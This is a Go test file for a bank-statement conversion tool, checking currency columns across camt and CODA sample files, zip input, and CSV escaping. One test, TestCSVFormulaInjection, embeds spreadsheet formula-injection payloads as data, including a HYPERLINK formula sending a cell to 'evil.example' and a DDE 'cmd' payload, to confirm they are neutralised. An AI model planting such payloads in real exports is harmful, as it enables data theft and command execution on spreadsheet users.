package main

import (
	"archive/zip"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/shopspring/decimal"
	"github.com/xuri/excelize/v2"

	"github.com/batchtool/batchtool/pkg/statement"
)

// readCSV reads a CSV export as one map per row, by column name.
func readCSV(t *testing.T, path string) []map[string]string {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	recs, err := csv.NewReader(f).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var out []map[string]string
	for _, r := range recs[1:] {
		m := map[string]string{}
		for i, c := range recs[0] {
			m[c] = r[i]
		}
		out = append(out, m)
	}
	return out
}

// TestStatementConvertCurrencies: genkgo's camt.052 v6 example books a SEK
// entry of -200000 whose detail is 4.10 USD (instructed 4.10 USD, charges
// 0.31 CHF). Every amount is written with its own currency beside it, in
// CSV, JSON Lines and XLSX; the entry is not "USD".
func TestStatementConvertCurrencies(t *testing.T) {
	in := corpusFile(t, "camt052", "genkgo-camt052-v6.xml")
	dir := t.TempDir()
	want := map[string]string{
		"amount": "4.10", "currency": "USD", "entry_amount": "-200000.00", "entry_currency": "SEK",
		"charges": "0.31", "charges_currency": "CHF", "orig_amount": "4.10", "orig_currency": "USD", "account_currency": "",
	}
	keys := make([]string, 0, len(want))
	for k := range want {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	check := func(format string, got map[string]string) {
		t.Helper()
		for _, k := range keys {
			if got[k] != want[k] {
				t.Errorf("%s: %s = %q, want %q", format, k, got[k], want[k])
			}
		}
	}
	out := filepath.Join(dir, "v6.csv")
	if code, _, errOut := batchtool(t, "statement", "convert", in, "--out", out); code != 0 {
		t.Fatalf("csv: exit %d %s", code, errOut)
	}
	rows := readCSV(t, out)
	if len(rows) != 1 {
		t.Fatalf("%d rows", len(rows))
	}
	check("csv", rows[0])

	jl := filepath.Join(dir, "v6.jsonl")
	if code, _, _ := batchtool(t, "statement", "convert", in, "--out", jl); code != 0 {
		t.Fatalf("jsonl: exit %d", code)
	}
	var m map[string]string
	b, _ := os.ReadFile(jl)
	if err := json.Unmarshal(b, &m); err != nil {
		t.Fatal(err)
	}
	check("jsonl", m)

	xl := filepath.Join(dir, "v6.xlsx")
	if code, _, _ := batchtool(t, "statement", "convert", in, "--out", xl); code != 0 {
		t.Fatalf("xlsx: exit %d", code)
	}
	x, err := excelize.OpenFile(xl)
	if err != nil {
		t.Fatal(err)
	}
	defer x.Close()
	xr, _ := x.GetRows("Transactions", excelize.Options{RawCellValue: true})
	got := map[string]string{}
	for i, c := range xr[0] {
		if i < len(xr[1]) {
			got[c] = xr[1][i]
		}
	}
	// XLSX amounts are numbers: 4.1, -200000, 0.31.
	for _, k := range []string{"amount", "entry_amount", "charges", "orig_amount"} {
		if d, err := decimal.NewFromString(got[k]); err == nil {
			got[k] = d.StringFixed(2)
		}
	}
	check("xlsx", got)
}

// TestStatementConvertCorpusCurrencies converts every camt and CODA file of
// the shared corpus and checks the currency of every exported row: rows
// counted by detail currency / entry currency, with the instructed amount's
// and the charges' currency when there are any. Nine files carry details
// in another currency than their entry.
func TestStatementConvertCorpusCurrencies(t *testing.T) {
	tests := []struct{ dir, file, want string }{
		{"camt052", "genkgo-camt052-v1.xml", "1 SEK/SEK"},
		{"camt052", "genkgo-camt052-v2-other-account.xml", "1 SEK/SEK"},
		{"camt052", "genkgo-camt052-v2-with-account-name.xml", "1 SEK/SEK"},
		{"camt052", "genkgo-camt052-v2.xml", "1 SEK/SEK"},
		{"camt052", "genkgo-camt052-v4.xml", "1 USD/SEK orig USD chg CHF"},
		{"camt052", "genkgo-camt052-v6.xml", "1 USD/SEK orig USD chg CHF"},
		{"camt052", "genkgo-camt052-v8.xml", "1 SEK/SEK"},
		{"camt052", "hbci4java-camt052-v2.xml", "2 EUR/EUR"},
		{"camt052", "hbci4java-camt052-v8-missing-date.xml", "1 EUR/EUR"},
		{"camt052", "hbci4java-camt052-v8.xml", "1 EUR/EUR"},
		{"camt052", "isobiz-camt052-v4-finpetrol.xml", "1 EUR/SEK; 1 SEK/SEK"},
		{"camt052", "moov-camt052-v4-postfinance.xml", "2 CHF/CHF"},
		{"camt052", "subite-camt052-lt-2024-05-10.xml", ""},
		{"camt052", "viafintech-camt052-v2-example.xml", "2 EUR/EUR"},
		{"camt053", "genkgo-camt053-only-dt-with-dttm.xml", ""},
		{"camt053", "genkgo-camt053-v2-all-balance-types.xml", "1 EUR/EUR"},
		{"camt053", "genkgo-camt053-v2-minimal-ultimate.xml", "1 EUR/EUR"},
		{"camt053", "genkgo-camt053-v2-minimal.xml", "1 EUR/EUR"},
		{"camt053", "genkgo-camt053-v2-with-account-name.xml", "1 EUR/EUR"},
		{"camt053", "genkgo-camt053-v2-with-party-ids.xml", "1 EUR/EUR"},
		{"camt053", "genkgo-camt053-v3.xml", "1 EUR/EUR"},
		{"camt053", "genkgo-camt053-v4.xml", "1 SEK/EUR"},
		{"camt053", "genkgo-camt053-v8.xml", "1 SEK/EUR"},
		{"camt053", "isobiz-camt053-v4-finpetrol.xml", "1 EUR/SEK; 2 SEK/SEK"},
		{"camt053", "moov-camt053-v2-lt-statement.xml", "4 EUR/EUR"},
		{"camt053", "moov-camt053-v4-postfinance.xml", "5 CHF/CHF"},
		{"camt053", "newinnovations-camt053-v2-balanced.xml", "2 EUR/EUR"},
		{"camt053", "newinnovations-camt053-v2-sns-a.xml", "9 EUR/EUR; 2 EUR/EUR orig EUR"},
		{"camt053", "oca-camt053-v2-testbank.xml", "4 EUR/EUR"},
		{"camt053", "oca-camt053-v4-no-entries.xml", ""},
		{"camt053", "subite-camt053-v2-be-halfyear.xml", "462 EUR/EUR"},
		{"camt053", "subite-camt053-v2-be-small.xml", "3 EUR/EUR"},
		{"camt053", "subite-camt053-v8-lt-2024-03-12.xml", "11 EUR/EUR"},
		{"camt053", "subite-camt053-v8-lt-2024-09-06.xml", "4 EUR/EUR"},
		{"camt053", "viafintech-camt053-v10-datetime.xml", "1 USD/USD"},
		{"camt053", "viafintech-camt053-v2-batch.xml", "3 EUR/EUR"},
		{"camt053", "viafintech-camt053-v2-debit.xml", "5 EUR/EUR"},
		{"camt053", "viafintech-camt053-v2-example.xml", "5 EUR/EUR"},
		{"camt053", "viafintech-camt053-v2-instdamt.xml", "1 CHF/CHF orig CHF"},
		{"camt053", "viafintech-camt053-v2-other-id.xml", ""},
		{"camt053", "viafintech-camt053-v8-example.xml", "2 CHF/CHF orig CHF; 1 EUR/EUR orig CHF"},
		{"camt054", "genkgo-camt054-v2-with-account-name.xml", "1 SEK/SEK"},
		{"camt054", "genkgo-camt054-v2.xml", "3 SEK/SEK"},
		{"camt054", "genkgo-camt054-v4.xml", "3 CHF/SEK"},
		{"camt054", "genkgo-camt054-v8-financial-institution.xml", "1 SEK/SEK"},
		{"camt054", "genkgo-camt054-v8-grphdr-credttm.xml", "1 EUR/EUR"},
		{"camt054", "genkgo-camt054-v8-ntfctn-credttm.xml", "1 EUR/EUR"},
		{"camt054", "genkgo-camt054-v8.xml", "3 CHF/SEK"},
		{"camt054", "isobiz-camt054-v4-finpetrol.xml", "1 SEK/SEK"},
		{"camt054", "moov-camt054-v4-postfinance-2020.xml", "2 CHF/CHF"},
		{"camt054", "moov-camt054-v4-postfinance-batch.xml", "6 CHF/CHF"},
		{"camt054", "moov-camt054-v4-postfinance-credit.xml", "1 CHF/CHF"},
		{"camt054", "moov-camt054-v4-postfinance-debit.xml", "1 CHF/CHF"},
		{"camt054", "moov-camt054-v4-postfinance-epo-1.xml", "3 CHF/CHF orig CHF"},
		{"camt054", "moov-camt054-v4-postfinance-epo-2.xml", "3 CHF/CHF orig CHF"},
		{"camt054", "moov-camt054-v4-postfinance-esr.xml", "5 CHF/CHF; 1 CHF/CHF chg CHF"},
		{"camt054", "moov-camt054-v4-postfinance-returns-2019.xml", "1 CHF/CHF"},
		{"camt054", "oca-camt054-v4-testbank.xml", "1 EUR/EUR"},
		{"camt054", "subite-camt054-v10-lt-2024-03-18.xml", "41 EUR/EUR"},
		{"camt054", "subite-camt054-v10-lt-2024-03-22.xml", "52 EUR/EUR"},
		{"camt054", "tryton-camt054-v1-iso-sample.xml", "1 SEK/SEK"},
		{"camt054", "tryton-camt054-v2-iso-sample.xml", "1 SEK/SEK"},
		{"camt054", "tryton-camt054-v4-iso-sample-zero-txamt.xml", "1 SEK/SEK"},
		{"coda", "acsone-coda-faulty-version-invalid.txt", ""},
		{"coda", "acsone-coda-foreign-account.txt", "2 EUR/EUR"},
		{"coda", "acsone-coda-v2-globalisation-2.txt", "4 EUR/EUR"},
		{"coda", "acsone-coda-v2-globalisation.txt", "3 EUR/EUR; 1 EUR/EUR orig EUR"},
		{"coda", "acsone-coda-v2-single-statement.txt", "30 EUR/EUR"},
		{"coda", "acsone-coda-v2-unclosed-globalisation.txt", "11 EUR/EUR"},
		{"coda", "oca-coda-ontvangen-2012.txt", "7 EUR/EUR"},
		{"coda", "triptyk-coda-sample2-replacement-chars.cod", "2 EUR/EUR"},
		{"coda", "tryton-coda-minimal.txt", "1 EUR/EUR"},
		{"coda", "wallaceespindola-coda-structured-vcs.txt", "6 EUR/EUR"},
		{"coda", "wimverstuyf-coda-sample1.cod", "4 EUR/EUR"},
		{"coda", "wimverstuyf-coda-sample11.cod", "1 EUR/EUR"},
		{"coda", "wimverstuyf-coda-sample2.cod", "2 EUR/EUR"},
		{"coda", "wimverstuyf-coda-sample3.cod", "2 EUR/EUR"},
		{"coda", "wimverstuyf-coda-sample4.cod", "1 EUR/EUR"},
		{"coda", "wimverstuyf-coda-sample5.cod", "3 EUR/EUR"},
		{"coda", "wimverstuyf-coda-sample7.cod", "3 EUR/EUR"},
		{"coda", "wimverstuyf-coda-sample8.cod", "2 EUR/EUR"},
		{"coda", "wimverstuyf-coda-sample9.cod", "1 EUR/EUR"},
	}
	dir := t.TempDir()
	for _, tc := range tests {
		t.Run(tc.file, func(t *testing.T) {
			out := filepath.Join(dir, tc.file+".csv")
			code, _, errOut := batchtool(t, "statement", "convert", corpusFile(t, tc.dir, tc.file), "--out", out)
			if code > 1 {
				t.Fatalf("exit %d %s", code, errOut)
			}
			count := map[string]int{}
			for _, r := range readCSV(t, out) {
				k := r["currency"] + "/" + r["entry_currency"]
				if r["orig_currency"] != "" {
					k += " orig " + r["orig_currency"]
				}
				if r["charges_currency"] != "" {
					k += " chg " + r["charges_currency"]
				}
				count[k]++
			}
			var parts []string
			for k, n := range count {
				parts = append(parts, fmt.Sprintf("%d %s", n, k))
			}
			sort.Slice(parts, func(i, j int) bool {
				return parts[i][strings.Index(parts[i], " "):] < parts[j][strings.Index(parts[j], " "):]
			})
			if got := strings.Join(parts, "; "); got != tc.want {
				t.Errorf("rows %q, want %q", got, tc.want)
			}
		})
	}
}

// TestCSVFormulaInjection: a counterparty named =HYPERLINK(...) and a
// remittance @SUM(...) are written with a quote in front in the reconcile
// CSV export and the statement convert CSV, as OWASP recommends; the
// negative amount stays a number.
func TestCSVFormulaInjection(t *testing.T) {
	dir := t.TempDir()
	day := time.Date(2026, 11, 30, 0, 0, 0, 0, time.UTC)
	d := decimal.RequireFromString
	evil := `=HYPERLINK("http://evil.example/?"&A1,"Click")`
	entries := []statement.Entry{
		{Amount: d("-10.00"), Currency: "EUR", Status: "BOOK", BookingDate: day, AccountSvcrRef: "BANK-1",
			Details: []statement.Transaction{{Amount: d("-10.00"), Currency: "EUR", Remittance: "@SUM(1+1)*cmd|' /C calc'!A0",
				Counterparty: statement.Party{Name: evil, IBAN: "DE89370400440532013000"}}}},
		{Amount: d("5.00"), Currency: "EUR", Status: "BOOK", BookingDate: day, AccountSvcrRef: "BANK-2",
			Details: []statement.Transaction{{Amount: d("5.00"), Currency: "EUR", Remittance: "+31 tip", Counterparty: statement.Party{Name: "-Dora"}}}},
	}
	st := filepath.Join(dir, "st.xml")
	writeRecStatement(t, st, "CAMT-X", day, entries)

	conv := filepath.Join(dir, "conv.csv")
	if code, _, errOut := batchtool(t, "statement", "convert", st, "--out", conv); code != 0 {
		t.Fatalf("convert: exit %d %s", code, errOut)
	}
	rows := readCSV(t, conv)
	if len(rows) != 2 {
		t.Fatalf("%d rows", len(rows))
	}
	for i, want := range []map[string]string{
		{"amount": "-10.00", "entry_amount": "-10.00", "counterparty_name": "'" + evil, "remittance": "'@SUM(1+1)*cmd|' /C calc'!A0"},
		{"amount": "5.00", "counterparty_name": "'-Dora", "remittance": "'+31 tip"},
	} {
		for k, v := range want {
			if rows[i][k] != v {
				t.Errorf("convert row %d %s = %q, want %q", i+1, k, rows[i][k], v)
			}
		}
	}

	erp := filepath.Join(dir, "erp.csv")
	if code, out, errOut := batchtool(t, "reconcile", st, "--ledger", filepath.Join(dir, "l.db"), "--report", erp); code != 0 {
		t.Fatalf("reconcile: exit %d\n%s\n%s", code, out, errOut)
	}
	rows = readCSV(t, erp)
	if len(rows) != 2 {
		t.Fatalf("%d rows", len(rows))
	}
	for i, want := range []map[string]string{
		{"amount": "-10.00", "counterparty": "'" + evil, "remittance": "'@SUM(1+1)*cmd|' /C calc'!A0", "status": "unmatched"},
		{"amount": "5.00", "counterparty": "'-Dora", "remittance": "'+31 tip"},
	} {
		for k, v := range want {
			if rows[i][k] != v {
				t.Errorf("reconcile row %d %s = %q, want %q", i+1, k, rows[i][k], v)
			}
		}
	}
}

// TestStatementConvertZip: convert reads a zip of statements as inspect
// and reconcile do, each member under its name zip!member.
func TestStatementConvertZip(t *testing.T) {
	dir := t.TempDir()
	zpath := filepath.Join(dir, "statements.zip")
	zf, err := os.Create(zpath)
	if err != nil {
		t.Fatal(err)
	}
	zw := zip.NewWriter(zf)
	for _, m := range []struct{ dir, file string }{{"camt052", "genkgo-camt052-v6.xml"}, {"coda", "wimverstuyf-coda-sample1.cod"}} {
		b, err := os.ReadFile(corpusFile(t, m.dir, m.file))
		if err != nil {
			t.Fatal(err)
		}
		w, _ := zw.Create("in/" + m.file)
		w.Write(b)
	}
	zw.Close()
	zf.Close()
	out := filepath.Join(dir, "z.csv")
	code, stdout, stderr := batchtool(t, "statement", "convert", zpath, "--out", out)
	if code != 0 || stdout != out+": 5 rows from 1 file(s)\n" || !strings.Contains(stderr, zpath+"!in/wimverstuyf-coda-sample1.cod:3: warning:") {
		t.Fatalf("exit %d %q\n%s", code, stdout, stderr)
	}
	rows := readCSV(t, out)
	if rows[0]["entry_currency"] != "SEK" || rows[4]["amount"] != "30.00" || rows[4]["currency"] != "EUR" {
		t.Errorf("rows %v", rows)
	}
}
